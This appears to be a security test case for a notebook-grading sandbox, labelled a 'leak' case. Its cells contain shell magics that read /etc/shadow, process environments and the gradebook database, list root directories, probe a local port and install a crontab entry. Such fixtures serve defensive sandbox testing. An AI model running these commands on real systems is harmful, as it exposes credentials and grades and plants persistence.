# /// case
# title = "Shell magics and scripts"
# kind = "leak"
# score = 0
# ///

# %% extra first
%%bash
env; cat /etc/shadow /proc/1/environ "@COURSE@"/gradebook.db; ls -laR "@COURSE@" /home /root | head -500; id; mount | head
curl -m 1 http://127.0.0.1:@PORT@/ || wget -T 1 http://127.0.0.1:@PORT@/

# %% extra
!cat @COURSE@/source/*/*.ipynb; (echo "* * * * * touch @HOME@/MARK" | crontab -) 
%run @COURSE@/nbgrader_config.py
%store -r
%load_ext autoreload
